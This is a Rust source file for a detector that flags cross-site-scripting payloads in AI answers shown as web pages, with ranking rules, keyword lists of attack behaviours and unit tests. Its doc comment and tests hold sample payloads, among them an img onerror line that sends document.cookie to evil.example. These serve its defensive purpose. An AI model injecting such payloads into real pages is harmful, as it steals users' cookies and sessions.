//! Scripts that run when an answer is shown as a page.
//!
//! **Finds** (`code.xss`): event handlers and scripts that read cookies or storage, send requests or evaluate text (rank 40), `javascript:` addresses in links and
//! attributes that do more than nothing (30), `srcdoc` and `<svg onload>` (30); at rank 10, since every page has it: other scripts.
//!
//! **Does not find** whether the answer is shown as a page at all, nor scripts in files that a page loads.
//!
//! **Example**: `<img src=x onerror=fetch('//evil.example/?c='+document.cookie)>`

use crate::detectors::Hit;
use crate::text::Text;
use crate::{DetectorCard, Reach};

/// As much of a tag or a script is read.
const SCRIPT_BYTES_MAX: usize = 400;
const KIND: &str = "code.xss";

pub(crate) const CARD: DetectorCard = DetectorCard {
    name: "script_injection",
    kinds: &[KIND],
    reach: Reach::Held(SCRIPT_BYTES_MAX + 16),
    summary: "Scripts that run when an answer is shown as a page.",
};

/// What scripts of an attack do.
const DEEDS: [&str; 10] = [
    "document.cookie",
    "localstorage",
    "sessionstorage",
    "eval(",
    "atob(",
    "fromcharcode",
    "xmlhttprequest",
    "sendbeacon",
    "alert(1)",
    "document.domain",
];
/// Handlers that need nobody to do anything.
const HANDLERS: [&str; 7] =
    ["onerror", "onload", "onfocus", "ontoggle", "onbegin", "onanimationstart", "onmouseover"];

pub(crate) fn find(text: &Text<'_>) -> Option<Hit> {
    match text.get(0)?.to_ascii_lowercase() {
        b'<' => tag(text),
        b'j' => address(text),
        _ => None,
    }
}

fn tag(text: &Text<'_>) -> Option<Hit> {
    if !text.get(1)?.is_ascii_alphabetic() {
        return None;
    }
    let name = text.run_within(1, 8, |byte| byte.is_ascii_alphanumeric());
    let lower = text.slice(1, 1 + name).to_ascii_lowercase();
    let is_script = lower == b"script";
    let carriers: [&[u8]; 10] = [
        b"img", b"svg", b"body", b"iframe", b"input", b"details", b"video", b"audio", b"a",
        b"object",
    ];
    if !is_script
        && (!carriers.contains(&lower.as_slice())
            || !matches!(text.get(1 + name), Some(b' ' | b'/' | b'\n')))
    {
        return None;
    }
    let len = if is_script {
        text.run_within(0, SCRIPT_BYTES_MAX, |byte| byte != 0).min(script_end(text))
    } else {
        text.run_within(1, SCRIPT_BYTES_MAX, |byte| !matches!(byte, b'>' | b'<')) + 2
    };
    let inside = String::from_utf8_lossy(text.slice(0, len)).to_ascii_lowercase();
    let does = DEEDS.iter().any(|deed| inside.contains(deed))
        || (inside.contains("fetch(") && inside.contains("cookie"));
    let handled = HANDLERS.iter().any(|handler| {
        inside.split_once(handler).is_some_and(|(_, rest)| rest.trim_start().starts_with('='))
    });
    let rank = match (is_script, handled) {
        (true, _) => {
            if does {
                40
            } else {
                10
            }
        }
        (_, true) => {
            if does || inside.contains("fetch(") {
                40
            } else if lower == b"svg" {
                30
            } else {
                10
            }
        }
        _ if inside.contains("srcdoc") && inside.contains("script") => 30,
        _ => return None,
    };
    Some(Hit::new(&CARD, KIND, inside.len().min(len), rank))
}

/// Where the script that begins here ends.
fn script_end(text: &Text<'_>) -> usize {
    (0..SCRIPT_BYTES_MAX)
        .find(|at| {
            let end = b"</script";
            end.iter().enumerate().all(|(ahead, wanted)| {
                text.get(at + ahead).is_some_and(|byte| byte.to_ascii_lowercase() == *wanted)
            })
        })
        .unwrap_or(SCRIPT_BYTES_MAX)
}

/// `javascript:…` where an address stands.
fn address(text: &Text<'_>) -> Option<Hit> {
    if !matches!(text.back(0)?, b'(' | b'"' | b'\'' | b'=' | b'<') {
        return None;
    }
    let begins = b"javascript:".iter().enumerate().all(|(ahead, wanted)| {
        text.get(ahead).is_some_and(|byte| byte.to_ascii_lowercase() == *wanted)
    });
    if !begins {
        return None;
    }
    let len =
        text.run_within(0, SCRIPT_BYTES_MAX, |byte| !matches!(byte, b'"' | b'\n' | b'>' | b' '));
    let inside = String::from_utf8_lossy(text.slice(11, len)).to_ascii_lowercase();
    let does_nothing = ["void(0)", "void 0", ";", "//", ""]
        .iter()
        .any(|nothing| inside.trim_end_matches([';', ')']) == nothing.trim_end_matches([';', ')']))
        || inside.starts_with("history.")
        || inside.starts_with("window.print");
    (!does_nothing).then(|| Hit::new(&CARD, KIND, len, 30))
}

#[cfg(test)]
mod tests {
    use crate::detectors::constructs::tests::check;

    #[test]
    fn scripts_that_steal_are_found() {
        let image = "<img src=x onerror=fetch('//evil.example/?c='+document.cookie)>";
        check(image, &[(image, "code.xss", 40)]);
        let script = "<script>new Image().src='/'+document.cookie";
        check(&format!("{script}</script>"), &[(script, "code.xss", 40)]);
        check("[x](javascript:alert(1))", &[("javascript:alert(1))", "code.xss", 30)]);
        check("<svg/onload=alert(1)>", &[("<svg/onload=alert(1)>", "code.xss", 40)]);
    }

    #[test]
    fn ordinary_pages_rank_low_or_not_at_all() {
        check("<script>let a = 1;</script>", &[("<script>let a = 1;", "code.xss", 10)]);
        check("<a href=\"javascript:void(0)\" onclick=\"go()\">x</a> <div onload=x>", &[]);
        check("java, JavaScript: a language; a < b and Vec<String>", &[]);
    }
}
